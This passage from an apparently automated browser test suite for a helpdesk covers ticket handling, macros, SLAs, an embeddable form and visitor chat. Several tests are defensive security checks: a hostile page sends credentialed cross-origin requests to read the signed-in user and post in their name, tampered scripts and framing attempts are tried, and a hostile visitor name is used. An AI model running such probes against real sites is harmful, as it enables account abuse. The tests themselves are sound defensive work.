    for (let presses = 0; (await marked()) !== 'Closed'; presses++) {
      expect(presses, 'presses of the arrow').toBeLessThan(12);
      await keyboard.press('ArrowDown');
    }
    await keyboard.press('Enter');
    await waitFor(async () => (await admin.get(`/api/v1/tickets/${ticket.id}?expand=true`)).state === 'closed', {
      what: 'the ticket to be closed',
    });
    expect(await page.evaluate(() => (window as unknown as { mouse: number }).mouse)).toBe(0);
  });

  it('tickets are tagged, found by a tag, merged and taken apart again, without a mouse', async () => {
    const source = await phoneTicket('Twice the same', 'twin@customer.example');
    const target = await phoneTicket('Once is enough', 'twin@customer.example');
    await phoneTicket('Something related', 'twin@customer.example');
    await admin.post('/api/v1/tag_list', { name: 'paper jam' });
    await admin.post('/api/v1/ticket_articles', {
      ticket_id: source.id,
      content_type: 'text/html',
      body: `<p>As you can see.</p><img alt="The press" src="data:image/png;base64,${blackSquare(SQUARE_PX).toString('base64')}">`,
      attachments: [
        { filename: 'smoke.txt', data: Buffer.from('black').toString('base64'), 'mime-type': 'text/plain' },
      ],
    });
    const tess = await agent('Tess');
    const { page } = tess;
    const { keyboard } = page;
    await tess.goto(`/tickets/${source.id}`);
    await tess.heading('Twice the same').waitFor();

    const shown = tess.message(/^Agent: /);
    await shown.frameLocator('iframe').getByRole('button', { name: 'Enlarge the image The press' }).press('Enter');
    const image = page.getByRole('dialog', { name: 'The press' }).getByRole('img', { name: 'The press' });
    await image.waitFor();
    expect(await image.evaluate((one: HTMLImageElement) => one.naturalWidth)).toBe(SQUARE_PX);
    await keyboard.press('Escape');
    await image.waitFor({ state: 'detached' });
    const downloading = page.waitForEvent('download');
    await shown.getByRole('link', { name: /^smoke\.txt/ }).press('Enter');
    const download = await downloading;
    expect(download.suggestedFilename()).toBe('smoke.txt');
    expect(String(await buffer(await download.createReadStream()))).toBe('black');

    await page.getByRole('combobox', { name: 'Add a tag' }).waitFor();
    await keyboard.press('t');
    await keyboard.type('Paper');
    await page.getByRole('option', { name: 'paper jam' }).waitFor();
    await keyboard.press('ArrowDown');
    await keyboard.press('Enter');
    const tag = (name: string) => page.getByRole('link', { name, exact: true });
    await tag('paper jam').waitFor();
    await keyboard.type('mistake');
    await keyboard.press('Enter');
    await tag('mistake').waitFor();
    await page.getByRole('button', { name: 'Remove the tag mistake' }).press('Enter');
    await tag('mistake').waitFor({ state: 'detached' });
    const tags = () => admin.get(`/api/v1/tags?object=Ticket&o_id=${source.id}`);
    await waitFor(async () => String((await tags()).tags) === 'paper jam', { what: 'one tag, as the list has it' });
    await tag('paper jam').press('Enter');
    await tess.row('Twice the same').waitFor();
    expect(await page.getByRole('grid').getByRole('link').count()).toBe(1);

    await tess.row('Twice the same').press('Enter');
    await tess.heading('Twice the same').waitFor();
    await page.getByRole('button', { name: 'Reply', exact: true }).waitFor();
    const pick = async (words: string, title: string) => {
      await page.getByRole('dialog').locator('input:focus').waitFor();
      await keyboard.type(words);
      await page.getByRole('option', { name: title }).waitFor();
      await keyboard.press('ArrowDown');
      await keyboard.press('Enter');
    };
    await keyboard.press('l');
    await page.getByRole('dialog', { name: 'Link a ticket' }).waitFor();
    await pick('something rel', 'Something related');
    await page.getByRole('button', { name: 'Link the tickets' }).press('Enter');
    await page.getByRole('button', { name: /^Remove the link with/ }).waitFor();

    await keyboard.press('Shift+M');
    await page.getByRole('dialog', { name: /^Merge #/ }).waitFor();
    await pick(target.number, 'Once is enough');
    const preview = page.getByRole('list', { name: `#${target.number} will hold:` });
    const messages = preview.getByRole('listitem');
    const said: { number: string; at: string }[] = [];
    for (const { id, number } of [source, target]) {
      const thread: Json[] = await admin.get(`/api/v1/ticket_articles/by_ticket/${id}`);
      said.push(...thread.map(({ created_at }) => ({ number, at: created_at })));
    }
    const numbers = said.toSorted((one, other) => (one.at < other.at ? -1 : 1)).map(({ number }) => `#${number}`);
    await messages.nth(numbers.length - 1).waitFor();
    const lines = await messages.allTextContents();
    expect(lines.map((line) => /^#\d+/.exec(line)?.[0])).toEqual(numbers);
    for (const words of ['About Twice the same.', 'As you can see.', 'About Once is enough.']) {
      expect(lines.filter((line) => line.includes(words))).toHaveLength(1);
    }
    await preview.focus();
    expect(await preview.evaluate((list) => list === document.activeElement)).toBe(true);
    await page.getByRole('button', { name: 'Merge', exact: true }).press('Enter');
    await tess.heading('Once is enough').waitFor();
    await tess.shows('About Twice the same.');
    await tag('paper jam').waitFor();
    await page
      .getByRole('link', { name: /Something related/ })
      .first()
      .waitFor();
    await page
      .getByRole('link', { name: /Twice the same/ })
      .first()
      .press('Enter');
    await page.getByRole('note').getByText('This ticket was merged into').waitFor();
    await page.getByRole('button', { name: 'Undo the merge' }).press('Enter');
    await tess.shows('About Twice the same.');
    await tag('paper jam').waitFor();
    await page.getByRole('note').waitFor({ state: 'detached' });
    expect(await admin.get(`/api/v1/tickets/${source.id}?expand=true`)).toMatchObject({ state: 'new' });
  });

  it('J2: tickets are gone through beside their list, chosen all together, changed and changed back, without a mouse', async () => {
    const customer = 'many@customer.example';
    const tickets: Json[] = [];
    for (const n of [1, 2, 3]) tickets.push(await phoneTicket(`One of many ${n}`, customer));
    const mia = await agent('Mia');
    const { page } = mia;
    const keys = await Keys.of(mia);
    await mia.goto('/tickets?view=all&q=many&sort=number&order=asc');
    await mia.row('One of many 3').waitFor();
    // Beside the list: each ticket is read and changed where it is, and the list does not move.
    await keys.press('v');
    const pane = page.getByRole('region', { name: 'Ticket', exact: true });
    const shows = (n: number) => pane.getByRole('heading', { level: 2, name: `One of many ${n}` }).waitFor();
    await shows(1);
    await keys.press('j');
    await shows(2);
    await pane.getByRole('button', { name: 'Internal note' }).waitFor();
    await keys.at(/One of many 2/);
    await keys.press('i');
    await page.getByText('Owner: Mia Page').first().waitFor();
    await keys.press('n');
    await keys.at(/^Text of the internal note$/);
    await keys.type('I look after it.');
    await keys.press('Control+Enter');
    await pane.getByRole('article', { name: 'Internal note: Mia Page' }).waitFor();
    await keys.at(/^Reply$/);
    await keys.press('j');
    await shows(3);
    await keys.press('k', 'k');
    await shows(1);
    await keys.at(/One of many 1/);

    await keys.press('x');
    await page.getByText('1 ticket chosen').waitFor();
    await keys.press('j', 'j', 'Shift+X');
    await page.getByText('3 tickets chosen').waitFor();
    await keys.press('Escape', 'x');
    await page.getByText('1 ticket chosen').waitFor();
    await keys.to(/^Choose all 3 in this list$/, 'Shift+Tab');
    await keys.press('Enter');
    await page.getByText('3 tickets chosen').waitFor();
    await keys.to(/^Owner$/);
    await keys.press('Enter');
    await keys.choose(/^Mia Page$/);
    const report = page.getByRole('region', { name: 'Change of many tickets' });
    await report.getByText(/^2 tickets changed · 1 was so already/).waitFor();
    const owners = () =>
      Promise.all(tickets.map(async ({ id }) => (await admin.get(`/api/v1/tickets/${id}?expand=true`)).owner));
    expect(await owners()).toEqual(Array(3).fill(emailOf('Mia')));
    await keys.to(/^Undo$/);
    await keys.press('Enter');
    await report.getByText(/^2 tickets changed back/).waitFor();
    expect(await owners()).toEqual(['-', emailOf('Mia'), '-']);

    await keys.to(/One of many/, 'Shift+Tab');
    await keys.press('x');
    await page.getByText('1 ticket chosen').waitFor();
    await keys.to(/^Choose all 3 in this list$/, 'Shift+Tab');
    await keys.press('Enter');
    await keys.to(/^Merge$/);
    await keys.press('Enter');
    await page.getByRole('dialog', { name: 'Merge the chosen tickets' }).locator('input:focus').waitFor();
    await keys.type((tickets[0] as Json).number);
    await page.getByRole('option', { name: 'One of many 1' }).waitFor();
    await keys.press('ArrowDown', 'Enter', 'Enter');
    await report.getByText(/^2 tickets merged/).waitFor();
    const states = () =>
      Promise.all(tickets.map(async ({ id }) => (await admin.get(`/api/v1/tickets/${id}?expand=true`)).state));
    expect((await states()).slice(1)).toEqual(['merged', 'merged']);
    await keys.to(/^Undo$/);
    await keys.press('Enter');
    await report.getByText(/^2 merges undone/).waitFor();
    expect(await states()).not.toContain('merged');
    await keys.press('v');
    await pane.waitFor({ state: 'detached' });
  });

  it('a list goes on where its first page ends, also when that was asked for again meanwhile', async () => {
    for (let lane = 0; lane < 5; lane++) {
      await Promise.all(
        Array.from({ length: 11 }, (_, n) => phoneTicket(`Endless ${lane}.${n}`, 'endless@customer.example')),
      );
    }
    const ticket = await phoneTicket('The end of it', 'endless@customer.example');
    const nina = await agent('Nina');
    const { page } = nina;
    await nina.goto('/tickets?view=all&sort=number&order=asc');
    await page.getByRole('grid').getByRole('link').first().focus();
    // Asked for anew for the sake of a ticket further on; something else is drawn before the same comes again.
    const held = Promise.withResolvers<void>();
    const asked = Promise.withResolvers<void>();
    await page.route(/\/ticket_list\?/, async (route) => {
      asked.resolve();
      await held.promise;
      await route.continue();
    });
    await admin.put(`/api/v1/tickets/${ticket.id}`, { title: 'The end of all' });
    await asked.promise;
    await page.keyboard.press('x');
    await page.getByText('1 ticket chosen').waitFor();
    const again = page.waitForResponse((response) => response.url().includes('/ticket_list?'));
    held.resolve();
    await again;
    await page.unroute(/\/ticket_list\?/);
    const last = nina.row('The end of all');
    const atTheEnd = async () => {
      await page.keyboard.press('End');
      return last.isVisible();
    };
    await waitFor(atTheEnd, { what: 'the last ticket of the list' });
  });

  it('a macro is made and run, a text module is written by two colons, a template begins a ticket', async () => {
    const mona = await browser.person();
    const { page } = mona;
    await mona.comeIn(platform.admin.email, platform.admin.password, { at: '/admin/macros/new' });
    await page.getByLabel('Name').fill('Known outage');
    await page.getByRole('button', { name: 'Add an action' }).click();
    await page.getByRole('menuitem', { name: 'Priority' }).click();
    await page.getByRole('group', { name: 'Priority' }).getByLabel('Value').click();
    await page.getByRole('option', { name: 'High' }).click();
    await page.getByRole('button', { name: 'Create the macro' }).click();
    await page.getByText('The macro was created.').waitFor();
    await mona.goto('/admin/text-modules/new');
    await page.getByLabel('Name').fill('Greeting');
    await page
      .getByRole('textbox', { name: 'Text' })
      .fill('Dear reader of {{ticket.title}}{{^ticket.note}},{{/ticket.note}}');
    await page.frameLocator('iframe[title="Preview of the text module"]').getByText('Dear reader of ,').waitFor();
    await page.getByRole('button', { name: 'Create the text module' }).click();
    await page.getByText('The text module was created.').waitFor();
    await admin.post('/api/v1/templates', {
      name: 'Onboarding',
      options: { 'ticket.title': { value: 'New colleague' } },
    });

    const ticket = await phoneTicket('A quiet outage', 'outage@customer.example');
    await mona.goto(`/tickets/${ticket.id}`);
    await page.getByRole('button', { name: 'Macros' }).click();
    await page.getByRole('menuitem', { name: 'Known outage' }).click();
    await page.getByText('Done: Known outage').waitFor();
    expect(await admin.get(`/api/v1/tickets/${ticket.id}?expand=true`)).toMatchObject({ priority: '3 high' });

    await admin.post('/api/v1/macros', {
      name: 'Everybody knows',
      perform: {
        'ticket.priority_id': { value: '1' },
        'ticket.state_id': { value: '2' },
        'ticket.owner_id': { pre_condition: 'current_user.id' },
        'ticket.tags': { operator: 'add', value: 'outage' },
        'article.note': { subject: 'Known', internal: 'true', body: 'Told about #{ticket.title}.' },
      },
    });
    await mona.goto(`/tickets/${ticket.id}`);
    const choose = async () => {
      await page.getByRole('button', { name: 'Macros' }).waitFor();
      await page.keyboard.press('m');
      await page.getByRole('menuitem', { name: 'Everybody knows' }).press('Enter');
      await page.getByRole('dialog', { name: 'What the macro "Everybody knows" would do' }).waitFor();
    };
    await choose();
    const would = page.getByRole('dialog', { name: /^What the macro/ });
    expect(await would.getByRole('term').allTextContents()).toEqual(['State', 'Priority', 'Owner', 'Tags']);
    const [state, priority, , tags] = await would.getByRole('definition').allTextContents();
    expect([state, priority, tags]).toEqual([
      ...['Now: New → Then: Open', 'Now: High → Then: Low', 'Now: – → Then: outage'],
    ]);
    await would.getByText('Told about A quiet outage.').waitFor();
    await page.keyboard.press('Escape');
    await would.waitFor({ state: 'detached' });
    expect(await admin.get(`/api/v1/tickets/${ticket.id}?expand=true`)).toMatchObject({ priority: '3 high' });
    await choose();
    await page.keyboard.press('Enter');
    await page.getByText('Done: Everybody knows').waitFor();
    expect(await admin.get(`/api/v1/tickets/${ticket.id}?expand=true`)).toMatchObject({
      ...{ priority: '1 low', state: 'open', owner: platform.admin.email },
    });
    await page.getByRole('button', { name: 'Internal note' }).click();
    const text = page.getByRole('textbox', { name: 'Text of the internal note' });
    await text.click();
    await page.keyboard.type('::gree');
    await page.getByRole('option', { name: 'Greeting' }).waitFor();
    await page.keyboard.press('Enter');
    await text.getByText('Dear reader of A quiet outage,').waitFor();
    await page.getByRole('button', { name: 'Save internal note' }).click();
    await mona.message(/^Internal note: /).waitFor();

    await mona.goto('/tickets/new');
    await page.getByRole('combobox', { name: 'Template' }).click();
    await page.getByRole('option', { name: 'Onboarding' }).click();
    expect(await page.getByLabel('Title', { exact: true }).inputValue()).toBe('New colleague');

    await mona.goto('/tickets?view=all&q=quiet+outage');
    await mona.row('A quiet outage').focus();
    await page.keyboard.press('x');
    await page.getByRole('button', { name: 'Delete', exact: true }).click();
    const dialog = page.getByRole('dialog', { name: 'Delete the chosen tickets' });
    await dialog.getByText('gone for good').waitFor();
    await dialog.getByRole('button', { name: 'Delete 1 ticket' }).click();
    await page.getByText('1 ticket deleted').waitFor();
    await mona.row('A quiet outage').waitFor({ state: 'detached' });
    expect((await admin.call('GET', `/api/v1/tickets/${ticket.id}`)).status).toBe(404);
  });

  it('J8: an answer is written and published, put into a reply, and spares a customer a request', async () => {
    const editor = await browser.person();
    await editor.comeIn(platform.admin.email, platform.admin.password, { at: '/admin/knowledge-base' });
    await editor.heading('Knowledge base').waitFor();
    await editor.page.getByRole('link', { name: 'New category' }).click();
    await editor.page.getByLabel('Title (English)').fill('Doors');
    await editor.page.getByRole('button', { name: 'Create the category' }).click();
    await editor.page.getByRole('link', { name: 'Doors' }).waitFor();
    await editor.page.getByRole('link', { name: 'New answer' }).click();
    await editor.page.getByLabel('Title (English)').fill('Locked doors');
    await editor.page.getByRole('textbox', { name: 'Text (English)' }).fill('Turn the key twice.');
    await editor.page.getByRole('button', { name: 'Heading', exact: true }).waitFor();
    await editor.page.getByRole('combobox', { name: 'Category' }).click();
    await editor.page.getByRole('option', { name: 'Doors' }).click();
    await editor.page.getByRole('button', { name: 'Create the answer' }).click();
    await editor.heading('Locked doors').waitFor();
    await editor.page.getByRole('button', { name: 'Publish', exact: true }).click();
    await editor.page.getByText('Published', { exact: true }).waitFor();
    // A change is a version, and what was can be had again.
    const text = editor.page.getByRole('textbox', { name: 'Text (English)' });
    await text.fill('Turn the key once.');
    await editor.page.getByRole('button', { name: 'Save', exact: true }).click();
    await editor.page.getByRole('button', { name: 'Restore: Locked doors' }).click();
    await editor.page.getByRole('dialog').getByRole('button', { name: 'Restore' }).click();
    await text.getByText('Turn the key twice.').waitFor();

    const ticket = await phoneTicket('The door to the lab', 'lab@customer.example');
    const dora = await agent('Dora');
    await dora.goto(`/tickets/${ticket.id}`);
    await dora.page.getByRole('button', { name: 'Reply', exact: true }).click();
    const reply = dora.page.getByRole('textbox', { name: 'Text of the reply' });
    await reply.waitFor();
    await dora.page.getByRole('button', { name: 'Insert an answer' }).click();
    await dora.page.getByLabel('Words of the answer').fill('locked key');
    await dora.page.getByRole('button', { name: 'Text: Locked doors' }).click();
    await reply.getByText('Turn the key twice.').waitFor();
    await dora.page.getByRole('button', { name: 'Insert an answer' }).click();
    await dora.page.getByLabel('Words of the answer').fill('locked');
    await dora.page.getByRole('button', { name: 'Link: Locked doors' }).click();
    await reply.getByRole('link', { name: 'Locked doors' }).waitFor();
    // The link stands apart from the word before it, and what is typed next is none of it.
    await dora.page.keyboard.type('Bye');
    await reply.getByText('Turn the key twice. Locked doors Bye').waitFor();

    await account('Clio', 'Customer');
    const cleo = await browser.person();
    await cleo.comeIn(emailOf('Clio'), password, { at: '/tickets/new' });
    await cleo.page.getByLabel('Title').fill('My doors are locked');
    await cleo.page.getByRole('heading', { name: 'Does one of these answer it?' }).waitFor();
    await cleo.page.getByRole('button', { name: 'This answers it: Locked doors' }).click();
    await cleo.page.waitForURL((url) => url.pathname === '/tickets');
  });

  it('J7: what is promised runs in the hours of a calendar, stands still while one waits, and goes to the next group when it is over', async () => {
    const title = 'The cooling failed on Friday';
    // Where it is evening now; the two next days are its weekend, and the third is a holiday.
    const hour = new Date().getUTCHours();
    const ahead = ((20 - hour + 36) % 24) - 12;
    const localDay = (later: number) => new Date(Date.now() + (ahead + later * 24) * 3_600_000);
    const weekend = [1, 2].map((later) => localDay(later).getUTCDay());
    const hours: OpenHours = {
      ahead,
      days: [0, 1, 2, 3, 4, 5, 6].filter((day) => !weekend.includes(day)),
      spans: [
        [9 * 60, 12 * 60],
        [13 * 60, 17 * 60],
      ],
      holidays: [localDay(3).toISOString().slice(0, 10)],
    };
    const timezone = ahead === 0 ? 'Etc/GMT' : `Etc/GMT${ahead > 0 ? '-' : '+'}${Math.abs(ahead)}`;
    const spans = [
      ['09:00', '12:00'],
      ['13:00', '17:00'],
    ];
    const week = ['sun', 'mon', 'tue', 'wed', 'thu', 'fri', 'sat'];
    const calendar = await admin.post('/api/v1/calendars', {
      ...{ name: 'Hours of the machine room', timezone },
      business_hours: Object.fromEntries(
        week.map((day, i) => [day, { active: hours.days.includes(i), timeframes: spans }]),
      ),
      public_holidays: { [hours.holidays[0] as string]: { active: true, summary: 'Founding day' } },
    });
    const sla = await admin.post('/api/v1/slas', {
      ...{ name: 'Cooling', calendar_id: calendar.id, first_response_time: 240, solution_time: 600 },
      condition: { 'ticket.title': { operator: 'is', value: title } },
    });
    const { id: second } = await admin.post('/api/v1/groups', { name: 'Second line' });
    const trigger = await admin.post('/api/v1/triggers', {
      ...{ name: 'To the second line', activator: 'time' },
      condition: {
        'ticket.title': { operator: 'is', value: title },
        'ticket.escalation_at': { operator: 'has reached' },
      },
      perform: { 'ticket.group_id': { value: second } },
    });
    const due = ({ created_at }: Json, minutes: number) =>
      new Date(minutesLater(hours, Date.parse(created_at), minutes)).toISOString();
    try {
      await account('Kit', 'Agent');
      const [{ id: kitId }] = await admin.get(`/api/v1/users/search?query=${emailOf('Kit')}`);
      await admin.put(`/api/v1/users/${kitId}`, { groups: { Users: ['full'], 'Second line': ['full'] } });
      const kit = await browser.person();
      const { page } = kit;
      await kit.comeIn(emailOf('Kit'), password);
      await mailIn({ from: 'Cleo Cold <cold@customer.example>', subject: title, text: 'It is 40 degrees in here.\n' });
      const ticket = await admin.ticketTitled(title);
      const row = page.locator(`[data-ticket="${ticket.id}"]`);
      const timeIn = (place: ReturnType<typeof page.locator>) =>
        place
          .locator('time')
          .first()
          .getAttribute('datetime')
          .then((at) => new Date(at ?? 0).toISOString());
      await row.getByText(/^Due /).waitFor();
      expect(await timeIn(row.locator('span').filter({ hasText: /^Due / }).first())).toBe(due(ticket, 240));

      await kit.goto(`/tickets/${ticket.id}`);
      const details = page.getByRole('complementary', { name: 'Details' });
      const promised = (name: string) =>
        details.locator('dt', { hasText: name }).locator('xpath=following-sibling::dd[1]');
      await promised('First response').getByText(/^Due /).waitFor();
      expect(await timeIn(promised('First response'))).toBe(due(ticket, 240));
      expect(await timeIn(promised('Solution'))).toBe(due(ticket, 600));
      await details.getByText('By Cooling, in the hours of Hours of the machine room').waitFor();
      await details.getByRole('button', { name: 'Why is this due then?' }).click();
      await details.getByText(`Promised: 4:00 h of open time (${timezone})`).waitFor();
      await details
        .getByText(/^The ticket came in: /)
        .first()
        .waitFor();

      // Waiting for somebody stops the clock; a night of it costs no open time.
      await page.getByRole('combobox', { name: 'State' }).click();
      await page.getByRole('option', { name: 'Pending reminder' }).click();
      await page.getByRole('button', { name: 'Set pending' }).click();
      await promised('First response').getByText('Paused').waitFor();
      await details
        .getByText(/^The clock stands still since .*, because of the state\.$/)
        .first()
        .waitFor();
      expect(await admin.get(`/api/v1/tickets/${ticket.id}`)).toMatchObject({ escalation_at: null });
      await page.getByRole('combobox', { name: 'State' }).click();
      await page.getByRole('option', { name: 'Open', exact: true }).click();
      await promised('First response').getByText(/^Due /).waitFor();
      expect(await timeIn(promised('First response'))).toBe(due(ticket, 240));

      // One that came three weeks ago, on an evening too, is late and belongs to others by now.
      const created_at = new Date(Date.parse(ticket.created_at) - 21 * 86_400_000).toISOString();
      const old = await admin.post('/api/v1/tickets', {
        ...{ title, group: 'Users', customer: 'guess:cold@customer.example', created_at },
        article: { type: 'phone', sender: 'Customer', body: 'And it is getting warmer.' },
      });
      const own = admin.as({ basic: [emailOf('Kit'), password] });
      await waitFor(async () => (await own.get(`/api/v1/tickets/${old.id}`)).group_id === second, {
        what: 'the late ticket at the next group',
      });
      await kit.goto('/tickets?view=escalated');
      const late = page.locator(`[data-ticket="${old.id}"]`);
      await late.getByText('Second line').waitFor();
      await late.getByText(/^Was due /).waitFor();
      await late.getByLabel('Too late').waitFor();
      expect(
        await timeIn(
          late
            .locator('span')
            .filter({ hasText: /^Was due / })
            .first(),
        ),
      ).toBe(due(old, 240));
    } finally {
      await admin.call('DELETE', `/api/v1/triggers/${trigger.id}`);
      await admin.call('DELETE', `/api/v1/slas/${sla.id}`);
    }
  });

  it('J9, S36: a form on a page of others opens a ticket that goes on by mail; that page gets nothing else, and frames nothing', async () => {
    await admin.put('/api/v1/integration_settings', { form_ticket_create: true });
    const script = await (await fetch(`${platform.url}/assets/form/form.js`)).text();
    const digest = (text: string) => `sha384-${createHash('sha384').update(text).digest('base64')}`;
    const form = (into: string, integrity: string) =>
      `<div id="${into}"></div><script src="${platform.url}/assets/form/form.js" data-into="${into}" crossorigin
        integrity="${integrity}" defer></script>`;
    const shop = await listener({
      '/': `<!doctype html><html lang="en"><title>A shop</title>${form('ask', digest(script))}`,
      '/changed': `<!doctype html><html lang="en"><title>A shop</title>${form('ask', digest(`${script}\n`))}`,
      '/frames': `<!doctype html><html lang="en"><title>A thief</title>${['/', '/help/en', '/tickets/1']
        .map((path) => `<iframe src="${platform.url}${path}"></iframe>`)
        .join('')}`,
    });
    try {
      const visitor = await browser.person({}, shop.url);
      const { page } = visitor;
      visitor.allow(/^request to http/);
      await visitor.goto('/');
      const send = page.getByRole('button', { name: 'Send' });
      await page.getByLabel('Name').fill('Vic Visitor');
      await page.getByLabel('E-mail').fill('vic@shop.example');
      await page.getByLabel('Subject').fill('Do you ship to Mars?');
      await send.click();
      await page.getByText('Please fill in this field.').last().waitFor();
      await page.getByLabel('Message').fill('I move there soon.');
      await send.click();
      const thanks = await page
        .getByRole('status')
        .getByText(/^Thank you for your request \(#\d+\)/)
        .textContent();
      // What the page of the form may not: read who is signed in at the desk, or ask in their name.
      visitor.allow(/CORS policy/, /net::ERR_FAILED/);
      const stolen = await page.evaluate(async (url) => {
        const ask = (path: string, init: RequestInit) =>
          fetch(url + path, init).then(
            () => path,
            () => 'refused',
          );
        return Promise.all([
          ask('/api/v1/users/me', { credentials: 'include' }),
          ask('/api/v1/tickets', {
            method: 'POST',
            credentials: 'include',
            headers: { 'content-type': 'text/plain' },
            body: '{}',
          }),
        ]);
      }, platform.url);
      expect(stolen).toEqual(['refused', 'refused']);
      const ticket = await admin.ticketTitled('Do you ship to Mars?');
      expect(thanks).toContain(`#${ticket.number}`);
      await page.close();

      const hana = await agent('Hana');
      await hana.goto(`/tickets/${ticket.id}`);
      await hana.message('Customer: Vic Visitor').waitFor();
      await hana.page.getByRole('button', { name: 'Reply', exact: true }).click();
      const text = hana.page.getByRole('textbox', { name: 'Text of the reply' });
      await text.fill('Every second year.');
      await text.press('Control+Enter');
      const mail = await mailbox.mail(
        'vic@shop.example',
        ({ Snippet }) => Snippet.includes('second year'),
        'the answer',
      );
      await mailIn({
        from: 'Vic Visitor <vic@shop.example>',
        subject: `Re: ${mail.subject}`,
        text: 'Then I wait.\n',
        inReplyTo: mail.messageId ?? '',
      });
      await hana.message('Customer: Vic Visitor').getByText('Then I wait.').waitFor();
      const thread = (await admin.articlesOf(ticket.id)).filter(({ sender }) => sender !== 'System');
      expect(thread.map(({ type, sender }) => [type, sender])).toEqual([
        ['web', 'Customer'],
        ['email', 'Agent'],
        ['email', 'Customer'],
      ]);

      // A script that is another than the page was given is not run.
      const other = await browser.person({}, shop.url);
      other.allow(
        /^request to http/,
        /integrity/,
        /frame-ancestors|X-Frame-Options|net::ERR_BLOCKED_BY_RESPONSE|chrome-error/i,
      );
      await other.goto('/changed');
      expect(await other.page.locator('#ask').textContent()).toBe('');
      expect(await other.page.evaluate(() => 'HelpmeshForm' in window)).toBe(false);
      // And no page of the desk stands in a page of others.
      await other.goto('/frames');
      for (const frame of other.page.frames().slice(1)) expect(frame.url()).not.toContain(platform.url);
      expect(other.page.frames()).toHaveLength(4);
      // Pages of the desk listen to no messages of others, not even from a window that opened them.
      const opened = other.page.waitForEvent('popup');
      await other.page.evaluate(
        (url) => void Object.assign(window, { desk: window.open(`${url}/help/en`) }),
        platform.url,
      );
      const popup = await opened;
      await popup.waitForLoadState();
      expect(await popup.evaluate(() => window.opener)).toBeNull();
    } finally {
      shop.server.close();
      await admin.put('/api/v1/integration_settings', { form_ticket_create: false });
    }
  });

  it('J9, S01, S36: a visitor of a named page chats with an agent, leaves, and goes on by mail in the one ticket of it', async () => {
    const script = await (await fetch(`${platform.url}/assets/chat/chat.js`)).text();
    const integrity = `sha384-${createHash('sha384').update(script).digest('base64')}`;
    const page = (title: string) => `<!doctype html><html lang="en"><title>${title}</title><h1>${title}</h1>
      <script src="${platform.url}/assets/chat/chat.js" crossorigin integrity="${integrity}" defer></script>`;
    const [shop, thief] = [await listener({ '/': page('A shop') }), await listener({ '/': page('A thief') })];
    const [hostile = ''] = hostileNames;
    try {
      // An administrator switches it on, for one page.
      const boss = await browser.person();
      await boss.comeIn(platform.admin.email, platform.admin.password);
      await boss.goto('/admin/chat');
      await boss.page.getByRole('switch', { name: 'Visitors may chat' }).click();
      await boss.page.getByLabel('Title of the chat').fill('Ask the shop');
      await boss.page.getByLabel('Pages that may show the chat').fill(`${shop.url}/boats`);
      await boss.page.getByRole('button', { name: 'Add a topic' }).click();
      await boss.page.getByLabel('Topic', { exact: true }).fill('Boats');
      await boss.page.getByRole('button', { name: 'Save', exact: true }).click();
      await boss.page.getByText('The settings were saved.').waitFor();
      await boss.page.close();

      // Nobody takes chats: there is nothing to press. Then somebody does.
      const visitor = await browser.person({}, shop.url);
      visitor.allow(/^request to http/);
      const asks = () => visitor.page.waitForResponse((answer) => answer.url().endsWith('/chat/status'));
      const launch = visitor.page.getByRole('button', { name: 'Ask the shop' });
      const before = asks();
      await visitor.goto('/');
      expect(await (await before).json()).toMatchObject({ state: 'offline' });
      expect(await launch.isVisible()).toBe(false);
      const nora = await agent('Nora');
      await nora.goto('/chats');
      await nora.page.getByText('Nobody waits.').waitFor();
      await nora.page.getByRole('switch', { name: 'I take chats' }).click();
      await waitFor(async () => (await admin.get('/api/v1/chat_sessions')).enabled, { what: 'chats' });
      await waitFor(
        async () => {
          const answer = await fetch(`${platform.url}/api/v1/chat/status`, { method: 'POST' });
          return (await answer.json()).state === 'online';
        },
        { what: 'an agent who takes chats' },
      );
      const stranger = await browser.person({}, thief.url);
      stranger.allow(/^request to http/, /CORS policy/, /net::ERR_FAILED/, /status of 403/);
      const refused = stranger.page.waitForEvent('requestfailed', (request) => request.url().includes('/chat/'));
      await stranger.goto('/');
      await refused;
      expect(await stranger.page.getByRole('button').count()).toBe(0);

      await visitor.goto('/');
      await launch.click();
      const { page: shopPage } = visitor;
      await shopPage.getByLabel('Name').fill(hostile);
      await shopPage.getByLabel('E-mail').fill('vera@shop.example');
      await shopPage.getByRole('button', { name: 'Start the chat' }).click();
      await shopPage.getByText('Please fill in this field.').last().waitFor();
      await shopPage.getByLabel('Your question').fill('Does the boat float?');
      await shopPage.getByRole('button', { name: 'Start the chat' }).click();
      await shopPage.getByText('You are next.').waitFor();

      // The agent sees it without doing anything, and takes it.
      await nora.page.getByRole('link', { name: /^Chats\s*1$/ }).waitFor();
      await nora.page.getByRole('link', { name: /Does the boat float\?/ }).click();
      await nora.page.getByText('vera@shop.example').waitFor();
      await nora.page.getByRole('link', { name: `${shop.url}/` }).waitFor();
      await nora.page.getByText('On the page').waitFor();
      await nora.page.getByRole('button', { name: 'Take the chat' }).click();
      await shopPage.getByText('You are talking to Nora Page.').waitFor();
      const answer = nora.page.getByLabel('Answer');
      await answer.pressSequentially('It does');
      await shopPage.getByText('Nora Page is writing …').waitFor();
      await answer.press('Enter');
      const said = (on: Person, words: string) => on.page.getByRole('log').getByText(words);
      await said(visitor, 'It does').waitFor();
      const message = shopPage.getByLabel('Message', { exact: true });
      await message.pressSequentially(`And ${hostile}?`);
      await nora.page.getByText(/ is writing…$/).waitFor();
      await message.press('Enter');
      await said(nora, `And ${hostile}?`).waitFor();

      // Loaded anew it is the same chat; nothing of it outlives the tab.
      await visitor.goto('/');
      await said(visitor, 'It does').waitFor();
      expect(await said(visitor, `And ${hostile}?`).count()).toBe(1);
      expect(await visitor.context.cookies()).toEqual([]);
      expect(await shopPage.evaluate(() => localStorage.length)).toBe(0);
      await shopPage.close();
      await nora.page.getByText('Has left the page').waitFor();
      await nora.page.getByRole('button', { name: 'End the chat' }).click();
      await nora.page.getByRole('link', { name: /^Open ticket #\d+$/ }).click();

      await nora.heading('Does the boat float?').waitFor();
      await nora.message(/^Customer: /).waitFor();
      await nora.shows('It does');
      await nora.page.getByRole('button', { name: 'Reply', exact: true }).click();
      const text = nora.page.getByRole('textbox', { name: 'Text of the reply' });
      await text.fill('You were gone: it floats on fresh water too.');
      await nora.page.getByRole('button', { name: 'Send to vera@shop.example' }).waitFor();
      await text.press('Control+Enter');
      const mail = await mailbox.mail(
        'vera@shop.example',
        ({ Snippet }) => Snippet.includes('fresh water'),
        'the answer',
      );
      await mailIn({
        ...{ from: 'Vera <vera@shop.example>', subject: `Re: ${mail.subject}`, text: 'I take two.\n' },
        inReplyTo: mail.messageId ?? '',
      });
